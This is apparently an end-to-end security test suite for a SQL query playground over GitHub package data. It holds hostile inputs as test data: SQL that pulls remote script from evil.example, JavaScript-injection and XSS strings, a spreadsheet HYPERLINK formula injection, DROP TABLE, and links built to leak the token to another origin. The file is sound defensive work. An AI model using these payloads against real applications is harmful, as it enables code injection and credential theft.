import { beforeEach, describe, expect, it } from 'vitest';
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { compressToEncodedURIComponent, decompressFromEncodedURIComponent } from 'lz-string';
import type { FaultRule } from '../../src/github/fake/types';
import { HOSTILE_ID_BASE } from '../../src/github/fake/hostile';
import { useBrowser } from './support/browser';
import { E2E_TOKEN, FAKE_API_URL } from './support/constants';
import { fakeRequests, resetFake } from './support/fakeGitHub';
import {
  alertText,
  editorText,
  resultStatus,
  runQuery,
  setSql,
  useFakeApi,
  waitForPlayground,
} from './support/playground';

const browser = useBrowser();
const WHERE = "WHERE org = 'acme' AND package_name = 'web/frontend' AND package_type = 'container'";
const LIST = `SELECT id, name FROM github.packages.org_versions ${WHERE}`;

beforeEach(async () => {
  await resetFake();
});

/** Opens the playground against the fake API, watching for dialogs (an XSS payload's alert). */
async function openOnFake(): Promise<{ page: Page; dialogs: string[]; console: string[] }> {
  const visit = await browser.open('/playground', { clipboard: true });
  const dialogs: string[] = [];
  const console: string[] = [];
  visit.page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  visit.page.on('console', (m) => console.push(m.text()));
  await waitForPlayground(visit.page);
  await useFakeApi(visit.page);
  return { page: visit.page, dialogs, console };
}

const FORBIDDEN: readonly [string, string][] = [
  [
    'JavaScript in double backticks',
    `SELECT \`\`window.__pwned = 1\`\` AS x FROM github.packages.org_versions ${WHERE}`,
  ],
  ['CREATE FUNCTION', 'CREATE FUNCTION pwn AS ``function(){ window.__pwned = 1 }``'],
  ['REQUIRE', "REQUIRE 'https://evil.example/x.js'"],
  ['SOURCE', "SOURCE 'https://evil.example/x.sql'"],
  ['ATTACH', 'ATTACH INDEXEDDB DATABASE pwn'],
  ['INTO', `SELECT * INTO JSON('out.json') FROM github.packages.org_versions ${WHERE}`],
  ['a function in FROM', "SELECT * FROM JSON('https://evil.example/rows.json')"],
  ['a file in FROM', "SELECT * FROM CSV('https://evil.example/rows.csv')"],
  ['a string table', "SELECT * FROM 'https://evil.example/rows.csv'"],
  [
    '-> calling a method',
    `SELECT name->constructor->constructor('window.__pwned = 1')() FROM github.packages.org_versions ${WHERE}`,
  ],
  ['? params', `SELECT ? FROM github.packages.org_versions ${WHERE}`],
  ['variables', `SELECT @pwn FROM github.packages.org_versions ${WHERE}`],
  ['DDL', 'DROP TABLE org_versions'],
  ['DML', "INSERT INTO org_versions VALUES (1, 'x')"],
  ['JavaScript in a sub-query', 'SELECT * FROM (SELECT ``window.__pwned = 1`` AS x) AS t'],
  ['JavaScript in a CTE', 'WITH t AS (SELECT ``window.__pwned = 1`` AS x) SELECT * FROM t'],
  ['a union', `${LIST} UNION SELECT \`\`window.__pwned = 1\`\`, 2`],
];

describe('security: SQL the engine must refuse', () => {
  it.each(FORBIDDEN)('refuses %s with a message, sending nothing and changing nothing', async (_, sql) => {
    const { page, dialogs } = await openOnFake();
    const storage = (): Promise<string> =>
      page.evaluate(() => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]));
    const before = await storage();
    const globals = await page.evaluate(() => Object.keys(window).length);
    await setSql(page, sql);
    await runQuery(page);
    expect((await alertText(page)).length).toBeGreaterThan(10);
    expect(await fakeRequests()).toEqual([]);
    expect(await storage()).toBe(before);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => Object.keys(window).length)).toBe(globals);
    expect(dialogs).toEqual([]);
    expect(await editorText(page)).toBe(sql);
  });
});

describe('security: hostile data is text', () => {
  it('renders names, descriptions and URLs as text and links only safe https URLs', async () => {
    await resetFake({ hostile: true });
    const { page, dialogs } = await openOnFake();
    await setSql(
      page,
      `SELECT id, name, description, html_url, package_html_url, metadata FROM github.packages.org_versions ${WHERE} AND id >= ${HOSTILE_ID_BASE} ORDER BY id`,
    );
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toContain('7 rows');
    const table = page.getByRole('table', { name: 'Query results' });
    await table.getByRole('cell').filter({ hasText: '<img src=x onerror=alert(1)>' }).first().waitFor();
    expect(await table.locator('img, script').count()).toBe(0);
    const hrefs = await table.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^https:\/\/(github\.com|127\.0\.0\.1)/);
    expect(await table.getByRole('cell').filter({ hasText: 'JaVaScRiPt:alert(1)' }).count()).toBeGreaterThan(
      0,
    );
    // A 10 KB name stays in its cell: the row keeps a normal height.
    const heights = await table
      .getByRole('row')
      .evaluateAll((rows) => rows.map((r) => r.getBoundingClientRect().height));
    expect(Math.max(...heights)).toBeLessThan(120);
    // Right-to-left overrides cannot reorder the text around the cell.
    const bidi = await table
      .getByRole('cell')
      .filter({ hasText: 'gnp.exe' })
      .locator('span')
      .first()
      .evaluate((el) => getComputedStyle(el).unicodeBidi);
    expect(bidi).toBe('isolate');
    await page.getByRole('button', { name: 'JSON', exact: true }).click();
    expect(await page.getByLabel('Results as JSON').innerText()).toContain('<script>alert(1)</script>');
    expect(dialogs).toEqual([]);
  });

  it('escapes cells that a spreadsheet would run as formulas in the CSV export', async () => {
    await resetFake({ hostile: true });
    const { page } = await openOnFake();
    await setSql(
      page,
      `SELECT id, name FROM github.packages.org_versions ${WHERE} AND id = ${HOSTILE_ID_BASE + 7}`,
    );
    await runQuery(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    const csv = await readFile(await download.path(), 'utf8');
    expect(csv.split('\r\n')[0]).toBe('id,name');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example"",""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('security: API faults during a paginated list', () => {
  async function runWith(faults: readonly FaultRule[], sql = LIST): Promise<Page> {
    const { page } = await openOnFake();
    await resetFake({ faults });
    await setSql(page, sql);
    await runQuery(page);
    return page;
  }

  it('recovers from a 502 on page 3', async () => {
    const page = await runWith([{ action: { type: 'status', status: 502 }, page: 3, times: 1 }]);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^249 rows from GitHub/);
    expect((await fakeRequests()).map((r) => r.status)).toEqual([200, 200, 502, 200]);
  });

  it('marks the result partial when page 3 always fails', async () => {
    const page = await runWith([{ action: { type: 'status', status: 500 }, page: 3 }]);
    const status = await resultStatus(page).innerText();
    expect(status).toMatch(/^200 rows from GitHub/);
    expect(status).toMatch(/Partial result: 2 pages \(200 rows\)/);
  });

  it('waits out a 429 with retry-after, then completes', async () => {
    const page = await runWith([
      { action: { type: 'rate-limit', status: 429, retryAfterSeconds: 1 }, page: 2, times: 1 },
    ]);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^249 rows from GitHub/);
  });

  it('shows a countdown for a 403 rate limit, and can be cancelled during the wait', async () => {
    const { page } = await openOnFake();
    await resetFake({
      faults: [{ action: { type: 'rate-limit', status: 403, resetInSeconds: 40 }, page: 2 }],
    });
    await setSql(page, LIST);
    await page.getByRole('button', { name: 'Run query' }).click();
    await page.getByText(/Waiting \d+(\.\d)? s \(GitHub rate limit\)/).waitFor({ timeout: 15_000 });
    await page.getByRole('button', { name: 'Cancel query' }).click();
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/Partial result: 1 pages/);
    expect((await fakeRequests()).length).toBe(2);
  });

  it('stops at a Link to another origin, sending nothing there', async () => {
    const page = await runWith([
      { action: { type: 'foreign-link', origin: 'https://evil.example' }, page: 1 },
    ]);
    const status = await resultStatus(page).innerText();
    expect(status).toMatch(/Partial result/);
    expect(status).toMatch(/evil\.example|another origin|origin/i);
    expect((await fakeRequests()).length).toBe(1);
  });

  it('reports malformed JSON', async () => {
    const page = await runWith([{ action: { type: 'malformed-json' }, page: 2 }]);
    expect(await resultStatus(page).innerText()).toMatch(/malformed|truncated/i);
  });

  it('stops at an empty page that links to another, instead of looping', async () => {
    const page = await runWith([{ action: { type: 'empty-page' }, page: 2 }]);
    expect(await resultStatus(page).innerText()).toMatch(/Partial result/);
    expect((await fakeRequests()).length).toBeLessThanOrEqual(3);
  });

  it('never shows the token, even when the server echoes it back', async () => {
    const { page, console } = await openOnFake();
    await resetFake({ faults: [{ action: { type: 'echo-auth' } }] });
    await setSql(page, LIST);
    await runQuery(page);
    expect(await alertText(page)).not.toContain(E2E_TOKEN);
    expect((await alertText(page)).length).toBeGreaterThan(10);
    expect(console.join('\n')).not.toContain(E2E_TOKEN);
    // Not in the DOM either (the token field is uncontrolled, so no value attribute holds it).
    expect(await page.content()).not.toContain(E2E_TOKEN.slice(4));
  });
});

describe('security: links', () => {
  it('ignores a token or API base URL in a link, and makes no request on open', async () => {
    const sql = 'SHOW METHODS IN github.packages.org_versions';
    const evil = `token=${E2E_TOKEN}&apiBaseUrl=https://evil.example&api=https://evil.example`;
    const visit = await browser.open(
      `/playground?${evil}#sql=${compressToEncodedURIComponent(sql)}&${evil}`,
      {
        clipboard: true,
      },
    );
    await waitForPlayground(visit.page);
    expect(await editorText(visit.page)).toBe(sql);
    await visit.page.locator('details summary').filter({ hasText: 'Data source' }).click();
    expect(await visit.page.getByLabel('GitHub token').inputValue()).toBe('');
    expect(await visit.page.getByLabel('API base URL').inputValue()).toBe('https://api.github.com');
    expect(await visit.page.getByLabel('Use sample data').isChecked()).toBe(true);
    await visit.page.waitForTimeout(300);
    expect(await fakeRequests()).toEqual([]);
    expect(visit.requests.filter((u) => u.startsWith(FAKE_API_URL))).toEqual([]);
  });
});

describe('security: links that would send the token elsewhere', () => {
  it.each([
    [
      'userinfo without slashes',
      `http:x@127.0.0.1:45123/orgs/acme/packages/container/web%2Ffrontend/versions?page=2`,
    ],
    [
      'userinfo',
      `http://user:pw@127.0.0.1:45123/orgs/acme/packages/container/web%2Ffrontend/versions?page=2`,
    ],
    ['a relative URL', `/orgs/acme/packages/container/web%2Ffrontend/versions?page=2`],
    [
      'a protocol-relative URL',
      `//127.0.0.1:45123/orgs/acme/packages/container/web%2Ffrontend/versions?page=2`,
    ],
    ['a backslash', `http:\\\\127.0.0.1:45123/orgs/acme/packages/container/web%2Ffrontend/versions?page=2`],
  ])('stops at a next-page Link with %s, sending nothing more', async (_, target) => {
    const { page } = await openOnFake();
    const link = `<${target}>; rel="next"`;
    await resetFake({ faults: [{ action: { type: 'foreign-link', link }, page: 1 }] });
    await setSql(page, LIST);
    await runQuery(page);
    const status = await resultStatus(page).innerText();
    expect(status).toMatch(/^100 rows from GitHub/);
    expect(status).toMatch(/Partial result/);
    expect(status).toMatch(/next-page link/);
    expect(await fakeRequests()).toHaveLength(1);
  });
});

describe('security: writes say what they do', () => {
  it('refuses EXEC of a delete method, naming the DELETE to write, and opens no dialog', async () => {
    const { page } = await openOnFake();
    const sql =
      "EXEC github.packages.org_versions.delete_package_version_for_org @org='acme', @package_type='container', @package_name='web/frontend', @package_version_id=1";
    await setSql(page, sql);
    await runQuery(page);
    expect(await alertText(page)).toMatch(
      /is a DELETE method: write DELETE FROM github\.packages\.org_versions/,
    );
    expect(await page.getByRole('dialog').count()).toBe(0);
    expect(await fakeRequests()).toEqual([]);
  });
});

describe('security: exports and shared links', () => {
  it('copies Markdown in which links, images and HTML from the data stay text', async () => {
    await resetFake({ hostile: true });
    const { page } = await openOnFake();
    await setSql(
      page,
      `SELECT id, name, description FROM github.packages.org_versions ${WHERE} AND id >= ${HOSTILE_ID_BASE} ORDER BY id`,
    );
    await runQuery(page);
    await page.getByRole('button', { name: 'Copy as Markdown' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^\| id \|/);
    const markdown = await page.evaluate(() => navigator.clipboard.readText());
    expect(markdown).not.toMatch(/(^|[^\\])\[[^\]]*\]\(/m); // no live [text](url)
    expect(markdown).not.toMatch(/(^|[^\\])<(img|script|a)\b/im); // no live HTML
    expect(markdown).not.toMatch(/https?:\/\//); // no bare URL a renderer would autolink
  });

  it('leaves token-like text out of a copied link and says so', async () => {
    const { page } = await openOnFake();
    await setSql(page, `SELECT id FROM github.packages.org_versions ${WHERE} AND name = '${E2E_TOKEN}'`);
    await page.getByRole('button', { name: 'Copy link' }).click();
    await page.getByText(/Removed a token-like string from the link/).waitFor();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    const shared = decompressFromEncodedURIComponent(new URL(link).hash.replace(/^#sql=/, ''));
    expect(shared).not.toContain(E2E_TOKEN);
    expect(shared).toContain('[REDACTED]');
    expect(await editorText(page)).toContain(E2E_TOKEN); // the reader's own text is not changed
  });

  it('strips token-like text from a link it opens, and says so', async () => {
    const sql = `SELECT id FROM github.packages.org_versions ${WHERE} AND name = '${E2E_TOKEN}'`;
    const visit = await browser.open(`/playground#sql=${compressToEncodedURIComponent(sql)}`, {
      clipboard: true,
    });
    await waitForPlayground(visit.page);
    await visit.page.getByText(/Removed a token-like string from it/).waitFor();
    expect(await editorText(visit.page)).not.toContain(E2E_TOKEN);
  });
});
